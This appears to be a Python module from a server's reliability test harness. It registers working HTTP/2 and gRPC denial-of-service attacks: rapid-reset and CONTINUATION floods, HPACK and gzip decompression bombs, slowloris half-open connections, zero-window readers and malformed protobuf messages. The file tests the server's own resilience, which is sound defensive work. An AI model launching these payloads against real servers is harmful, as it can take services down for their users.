"""The hostile peers of reliability.md 3.4 that need neither TLS nor users: ATTACKS, by name.

Each takes a hostile.Peer and goes on until its time is over.
"""

import functools
import gzip
import zlib

from harness import protos, raw_h2, wire
from hostile import (ACK, CANCEL, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, PRIORITY_UPDATE,
                     PUT, RANGE, RST, SETTINGS, TXN, WATCH, WINDOW, Requests, literal_block, literal_headers, replay, script)

ATTACKS = {}
BIG_VALUES = 50  # keys big0.. with 100,000 bytes each, which the readers without a window ask for
_RPC = protos.rpc


class Attack:
    def __init__(self, row, run, ends, threads, listener, prepare):
        self.row = row            # of the table in reliability.md 3.4
        self.run = run
        self.ends = ends          # the server has to end connections
        self.threads = threads
        self.listener = listener  # "plain", "tls", "auth" or "jwt"
        self.prepare = prepare    # called with the scale before the time counts


def attack(row, name, ends=True, threads=2, listener="plain", prepare=None):
    def register(function):
        ATTACKS[name] = Attack(row, function, ends, threads, listener, prepare or (lambda scale: None))
        return function
    return register


def register_flood(row, name, make, count, ends=True, least=1, listener="plain"):
    """An attack that is one script, of `count` streams where nothing is scaled down, and of `least` where much is."""
    made = functools.lru_cache(None)(make)

    def of(scale):
        return made(max(least, int(count * scale)))
    attack(row, name, ends, listener=listener, prepare=of)(lambda peer: replay(peer, of(peer.scale)))


def register_endless(row, name, frame, ends=True, opening=b"", read=True):
    """One frame for ever."""
    attack(row, name, ends)(lambda peer: replay(
        peer, raw_h2.opening() + opening, endless=frame * max(1, 60_000 // len(frame)), read=read,
        **({} if read else {"receive_buffer": 4096})))


# ---- Resets ----

def resets(count):
    requests = Requests()
    return script(lambda stream: requests.headers(stream) + raw_h2.frame(RST, 0, stream, CANCEL), count)


# The server stands ten thousand at once from an honest client.
register_flood("rapid reset", "rapid reset, 100,000 on one connection", resets, 100_000, least=12_000)
register_flood("rapid reset", "rapid reset, under TLS", resets, 100_000, least=12_000, listener="tls")


def provoked(provoke, flags=END_HEADERS):
    def make(count):
        requests = Requests(WATCH)
        return script(lambda stream: requests.headers(stream, flags) + provoke(stream), count)
    return make


for _name, _provoke, _flags in (
        ("a window of zero more", lambda stream: raw_h2.frame(WINDOW, 0, stream, bytes(4)), END_HEADERS),
        ("an oversize window", lambda stream: raw_h2.frame(WINDOW, 0, stream, b"\x7f\xff\xff\xff"), END_HEADERS),
        ("DATA after the end", lambda stream: raw_h2.frame(DATA, 0, stream, b"x"), END_HEADERS | END_STREAM),
        ("HEADERS after the end", literal_headers, END_HEADERS | END_STREAM)):
    register_flood("MadeYouReset", "made to reset: " + _name, provoked(_provoke, _flags), 20_000, least=2000,
                   ends="window" in _name)


# ---- Header blocks ----

register_endless("CONTINUATION flood", "CONTINUATION without end",
                 raw_h2.frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b" * 100), opening=literal_headers(1, 0))
register_endless("CONTINUATION flood", "empty CONTINUATION without end", raw_h2.frame(CONTINUATION, 0, 1),
                 opening=literal_headers(1, 0))


def blocks(block):
    return lambda count: script(lambda stream: raw_h2.frame(HEADERS, END_HEADERS, stream, block), count)


# One long field into the table, then references to it; lengths of 4 GiB; integers that go on for ever.
register_flood("HPACK bombs", "HPACK: references to a long field",
               blocks(literal_block() + b"\x40\x01a" + b"\x7f\x81\x1e" + b"v" * 4000 + b"\xbe" * 4000), 500, ends=False)
register_flood("HPACK bombs", "HPACK: a string of 4 GiB", blocks(b"\x00\x7f\x80\xff\xff\xff\x0f" + b"v" * 100), 2000, ends=False)
register_flood("HPACK bombs", "HPACK: a padded integer", blocks(b"\xff" + b"\x80" * 4000 + b"\x01"), 2000)
register_flood("HPACK bombs", "HPACK: changes of the table's size", blocks(b"\x20\x3f\xe1\x1f" * 2000 + literal_block()), 500, ends=False)
register_flood("HPACK bombs", "header lists of 64 KiB",
               lambda count: script(lambda stream: raw_h2.frame(HEADERS, 0, stream, literal_block()) + b"".join(
                   raw_h2.frame(CONTINUATION, END_HEADERS if part == 3 else 0, stream, b"\x00\x01k\x7f\x81\x7c" + b"v" * 16000)
                   for part in range(4)), count), 100, ends=False)


# ---- Frames that only cost work ----

_FLOODS = {
    "SETTINGS": raw_h2.frame(SETTINGS, 0, 0),
    "SETTINGS with a new window each": raw_h2.frame(SETTINGS, 0, 0, b"\x00\x04\x00\x00\x00\x00" * 10),
    "acknowledged SETTINGS": raw_h2.frame(SETTINGS, ACK, 0),
    "PING": raw_h2.frame(PING, 0, 0, b"12345678"),
    "acknowledged PING": raw_h2.frame(PING, ACK, 0, b"12345678"),
    "PRIORITY": raw_h2.frame(PRIORITY, 0, 1, bytes(4) + b"\x10"),
    "PRIORITY_UPDATE": raw_h2.frame(PRIORITY_UPDATE, 0, 0, b"\0\0\0\1u=1"),
    "WINDOW_UPDATE": raw_h2.frame(WINDOW, 0, 0, b"\0\0\0\1"),
    "unknown frames": raw_h2.frame(0xfe, 0xff, 77),
    "RST_STREAM of a closed stream": raw_h2.frame(RST, 0, 1, CANCEL),
}
for _name, _frame in _FLOODS.items():
    register_endless("floods of control frames", "flood: " + _name, _frame, opening=(
        literal_headers(1) + raw_h2.frame(RST, 0, 1, CANCEL) if "closed" in _name else b""))
register_endless("floods of control frames", "flood: empty DATA", raw_h2.frame(DATA, 0, 1), opening=literal_headers(1))
register_endless("floods of control frames", "flood: padded DATA without a byte", raw_h2.frame(DATA, 8, 1, b"\x05" + bytes(5)),
                 opening=literal_headers(1))
register_endless("floods of control frames", "flood: PING of a peer that does not read", _FLOODS["PING"], read=False)
register_endless("floods of control frames", "flood: SETTINGS of a peer that does not read", _FLOODS["SETTINGS"], read=False)


# ---- Slow ones ----

_OPENINGS = {
    "nothing": b"",
    "half a preface": b"PRI * HTTP/2.0\r\n",
    "half of an HTTP/1.1 head": b"GET /health HTTP/1.1\r\nhost: x\r\n",
    "half of an HTTP/1.1 body": b"POST /health HTTP/1.1\r\nhost: x\r\ncontent-length: 100000\r\n\r\nxxxx",
    "half a header block": raw_h2.opening() + raw_h2.frame(HEADERS, 0, 1, b"\x83"),
    "half a message": raw_h2.opening() + literal_headers(1) + raw_h2.frame(DATA, 0, 1, raw_h2.message_frame(b"x", length=1000)),
}


def half_open(peer, opening, receive_buffer=None):
    links = []
    for _ in range(peer.count(5000)):
        if peer.over():
            break
        link = peer.connect(receive_buffer=receive_buffer)
        links.append(link)
        if opening:
            link.sendall(opening)
    peer.note("half open", len(links))
    peer.hold(links)


for _name, _opening in _OPENINGS.items():
    attack("slowloris", "5,000 half open: " + _name, ends=False, threads=1)(
        lambda peer, opening=_opening: half_open(peer, opening))


@attack("zero-window readers", "readers without a window", ends=False, threads=4)
def no_window(peer):
    """Lists of five megabytes that nobody takes: SETTINGS_INITIAL_WINDOW_SIZE = 0."""
    requests = Requests(RANGE)
    message = _RPC.RangeRequest(key=b"big", range_end=b"bih").SerializeToString()
    settings = raw_h2.PREFACE + raw_h2.frame(SETTINGS, 0, 0, b"\x00\x04" + bytes(4))
    hold_one(peer, script(lambda stream: requests.call(stream, message), 40, settings))


@attack("zero-window readers", "readers whose socket takes nothing", ends=False, threads=4)
def no_reading(peer):
    requests = Requests(RANGE)
    message = _RPC.RangeRequest(key=b"big", range_end=b"bih").SerializeToString()
    wide = raw_h2.PREFACE + raw_h2.frame(SETTINGS, 0, 0, b"\x00\x04\x7f\xff\xff\xff") + raw_h2.frame(
        WINDOW, 0, 0, b"\x7f\x00\x00\x00")
    hold_one(peer, script(lambda stream: requests.call(stream, message), 40, wide), receive_buffer=4096)


def hold_one(peer, opening, **options):
    while not peer.over():
        link = peer.connect(**options)
        try:
            link.sendall(opening)
        except OSError:
            peer.sent_away += 1
            link.close()
            continue
        peer.hold([link])


@attack("slowloris", "messages that are never finished", ends=False, threads=4)
def unfinished(peer):
    """As many bytes as the windows take, of messages whose last byte does not come; ten such connections each."""
    requests = Requests()
    parts = [raw_h2.message_frame(b"", length=1_500_000)] + [bytes(16000)] * 60

    def make(stream):
        return requests.headers(stream) + b"".join(raw_h2.frame(DATA, 0, stream, part) for part in parts)
    opening = script(make, 16)
    while not peer.over():
        links = []
        try:
            for _ in range(max(3, peer.count(10))):
                links.append(peer.connect())
                links[-1].sendall(opening)
        except OSError:
            peer.sent_away += 1
        peer.hold(links)


# ---- Messages ----

def calls(message, path, compressed=0, more=()):
    def make(count):
        requests = Requests(path, more)
        return script(lambda stream: requests.call(stream, message, compressed), count)
    return make


@functools.lru_cache(None)
def bomb():
    """Nearly 1 MiB that become 1 GiB; nobody comes to its checksum."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(bytes(32 << 20)) + compressor.flush(zlib.Z_FULL_FLUSH)
    return gzip.compress(b"")[:10] + block * 32 + compressor.flush() + bytes(8)


def bombs(count):
    return calls(bomb(), PUT, 1, (("grpc-encoding", "gzip"),))(count)


@functools.lru_cache(None)
def small_bomb():
    """Two kilobytes that become as much as a message may be: each is honest, and a read of 64 KiB brings thirty."""
    return gzip.compress(bytes((2 << 20) - 1))


@functools.lru_cache(None)
def blocks_of_nothing():
    """1 MiB that become an empty message."""
    return gzip.compress(b"")[:10] + b"\x00\x00\x00\xff\xff" * 200_000 + b"\x03\x00" + bytes(8)


def small_bombs(count):
    return calls(small_bomb(), PUT, 1, (("grpc-encoding", "gzip"),))(count)


def nothings(count):
    return calls(blocks_of_nothing(), PUT, 1, (("grpc-encoding", "gzip"),))(count)


def promised(count):
    requests = Requests()
    return script(lambda stream: requests.headers(stream) + raw_h2.frame(
        DATA, 0, stream, raw_h2.message_frame(b"x", length=0xffffffff)), count)


register_flood("gzip bomb", "gzip: 1 GiB in 1 MiB", bombs, 3, ends=False)
register_flood("gzip bomb", "gzip: 2 MiB in 2 KiB, as many as go", small_bombs, 500, ends=False)
register_flood("gzip bomb", "gzip: nothing in 1 MiB", nothings, 3, ends=False)
register_flood("gzip bomb", "messages that promise 4 GiB", promised, 5000, ends=False)


def wide(operations):
    """A Txn of so many puts of nothing."""
    return b"\x12\x00" * operations


_MESSAGES = {
    "transactions nested 10,000 deep": (TXN, wire.nested_txn(10_000, b""), 20),
    "transactions of 500,000 empty operations": (TXN, wide(500_000), 3),
    "lengths beyond the message": (TXN, b"\x12\xff\xff\xff\xff\x0f" * 1000, 1000),
    "varints without end": (TXN, b"\xff" * 10_000, 500),
    "groups without end": (TXN, b"\x0b" * 10_000, 500),
}
for _name, (_path, _message, _count) in _MESSAGES.items():
    register_flood("malformed protobuf", _name, calls(_message, _path), _count, ends=False)
